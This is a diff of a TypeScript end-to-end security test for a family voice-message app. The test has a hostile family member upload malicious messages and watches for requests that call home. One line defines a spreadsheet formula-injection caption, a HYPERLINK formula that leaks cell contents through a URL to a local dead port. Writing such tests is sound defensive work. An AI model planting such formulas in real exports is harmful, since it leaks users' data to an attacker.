@@ -20,12 +20,10 @@
  *   records were sealed before that.
  * - Trusted Types: an injected string assigned to innerHTML throws instead of running.
  */
-import { mkdtemp, readFile, rm } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { readFile } from 'node:fs/promises';
 import { strFromU8, unzipSync } from 'fflate';
-import type { Browser, BrowserContext, Page } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { BrowserContext, Page } from 'playwright-core';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { addChild } from '../../src/client/children.js';
 import { admitJoiners, createFamily, loadFamily } from '../../src/client/families.js';
 import { acceptInvite, createInvite } from '../../src/client/invites.js';
@@ -35,10 +33,9 @@ import { sealMessage } from '../../src/crypto/envelope.js';
 import { sealProfile } from '../../src/crypto/profile.js';
 import { registerMember, wavWith, type TestMember } from '../e2e/family-harness.js';
 import { openTab, pairToy, showToyCode } from './support/app-steps.js';
-import { launchChromium, newPhoneContext, startTogether } from './support/browser.js';
+import { useBrowserApp } from '../support/browser.js';
 import { hasChromium } from '../support/chromium.js';
-import { fakeVoice, writeFakeVoice } from './support/fake-mic.js';
-import { startBurrowServe, type ServeProcess } from '../support/serve.js';
+import { fakeVoice } from './support/fake-mic.js';
 
 const STEP = 30_000;
 
@@ -74,9 +71,7 @@ const HOSTILE: Array<{ tag: string; audioType: string; body: string }> = [
 ];
 const FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click for the photos")';
 
-let server: ServeProcess;
-let browser: Browser;
-let dir: string;
+const app = useBrowserApp({ name: 'web-malicious', browsers: [{ voice: fakeVoice({ pitchHz: 220, syllablesPerSecond: 4, peak: 0.4 }) }] });
 let mum: TestMember;
 let eve: TestMember;
 let familyId: string;
@@ -84,7 +79,6 @@ let mia: string;
 const hostileIds = new Map<string, string>();
 let formulaId: string;
 const calledHome: string[] = [];
-const contexts: BrowserContext[] = [];
 
 /**
  * What a hostile member does: seal with her own keys and upload, past the client library's format
@@ -102,11 +96,8 @@ async function sealPastTheClient(member: TestMember, options: { audio: Uint8Arra
 }
 
 beforeAll(async () => {
-  dir = await mkdtemp(join(tmpdir(), 'burrow-web-malicious-'));
-  const mic = await writeFakeVoice(fakeVoice({ pitchHz: 220, syllablesPerSecond: 4, peak: 0.4 }), join(dir, 'mic.wav'));
-  [server, browser] = await startTogether([startBurrowServe(), launchChromium({ micWav: mic })]);
-  mum = await registerMember(server.url, 'mum');
-  eve = await registerMember(server.url, 'eve');
+  mum = await registerMember(app.server.url, 'mum');
+  eve = await registerMember(app.server.url, 'eve');
   familyId = (await createFamily(mum, { name: 'The Smiths' })).familyId;
   mia = (await addChild(mum, { familyId, name: 'Mia', emoji: '🦊' })).childId;
   // Eve joins as a relative whose messages a guardian approves, as any relative may.
@@ -118,18 +109,10 @@ beforeAll(async () => {
     hostileIds.set(hostile.tag, await sealPastTheClient(eve, { audio: new TextEncoder().encode(hostile.body), audioType: hostile.audioType }));
   }
   formulaId = (await sendMessage(eve, { familyId, to: mia, audio: wavWith(new Uint8Array(8)), audioType: 'audio/wav', durationMs: 500, caption: FORMULA })).messageId;
-}, 120_000);
-
-afterAll(async () => {
-  for (const context of contexts) await context.close().catch(() => undefined);
-  await browser?.close();
-  await server?.close();
-  if (dir !== undefined) await rm(dir, { recursive: true, force: true });
-});
+}, 180_000);
 
 async function mumsPhone(): Promise<{ context: BrowserContext; page: Page }> {
-  const context = await newPhoneContext(browser, server.url);
-  contexts.push(context);
+  const context = await app.newContext();
   await context.addInitScript({ content: PROBE });
   context.on('request', (request) => {
     if (new URL(request.url()).pathname.startsWith('/pwned')) calledHome.push(request.url());
